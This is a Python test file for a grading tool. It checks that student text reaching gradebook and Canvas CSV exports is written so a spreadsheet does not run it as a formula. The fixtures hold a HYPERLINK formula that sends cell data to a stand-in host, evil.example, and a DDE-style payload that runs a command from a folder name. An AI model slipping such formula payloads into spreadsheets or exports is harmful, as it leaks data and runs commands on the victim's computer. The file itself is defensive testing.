"""Tampering aimed at the teacher's spreadsheet: text a student controls reaches the CSV
files (gradebook, flags, the Canvas/Moodle export), and a spreadsheet runs a field that
starts like a formula. Every such field is written inert (report.inert)."""

import csv
from pathlib import Path

import nbformat
from assignment_files import BY_ASSIGNMENT
from keys import WRONG, build, right

from grader.cli import main
from grader.report import inert

T, D = "tensors_and_gradients", "derive_it_by_hand"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"full marks")'


def _formula_like(field: str) -> bool:
    if not field or field[0] not in "=+-@\t\r＝＋－＠":
        return False
    try:
        float(field)
        return False
    except ValueError:
        return True


def test_student_text_reaches_no_spreadsheet_as_a_formula(tmp_path):
    submitted, out = tmp_path / "submitted", tmp_path / "grades"
    # a folder name that stays a formula after safe_name (a leading minus)
    owner = "-2+3*cmd|' /C calc'!A0"
    folder = submitted / owner / D
    folder.mkdir(parents=True)
    nbformat.write(build(D, owner, WRONG[D]), folder / BY_ASSIGNMENT[D].name)
    # an answer whose error message, and a formula whose feedback, quote the injection
    raising = {**right(T, "raiser"), "q1_answer": f"raise ValueError({INJECTION!r})"}
    nbformat.write(build(T, "raiser", raising), submitted / "raiser.ipynb")
    quoting = {**WRONG[D], "q1_answer": f"df = {INJECTION!r}"}
    nbformat.write(build(D, "quoter", quoting), submitted / "quoter.ipynb")
    main(["grade", str(submitted), "--out", str(out), "--timeout", "10", "--jobs", "1",
          "--sandbox", "required"])
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n"
                      "Quoter,1,quoter,quoter,A\nRaiser,2,raiser,raiser,A\n")
    main(["export", str(out), "--to", "canvas", "--roster", str(roster), "--out",
          str(tmp_path / "canvas.csv")])
    files = list(out.rglob("*.csv")) + [tmp_path / "canvas.csv"]
    seen = []
    for path in files:
        if not path.exists():
            continue
        with open(path, newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                seen += [(path.name, f) for f in row]
    assert any("2_3" in f for _n, f in seen)  # the owner's name is there, inert
    assert [(n, f) for n, f in seen if _formula_like(f)] == []


def test_inert_leaves_numbers_and_text_alone():
    assert inert("-1.5") == "-1.5" and inert(3) == 3 and inert("alice") == "alice"
    assert inert("=1+1") == "'=1+1" and inert("@SUM(A1)") == "'@SUM(A1)"
    assert inert("\t=1") == "'\t=1" and inert("＝1") == "'＝1"
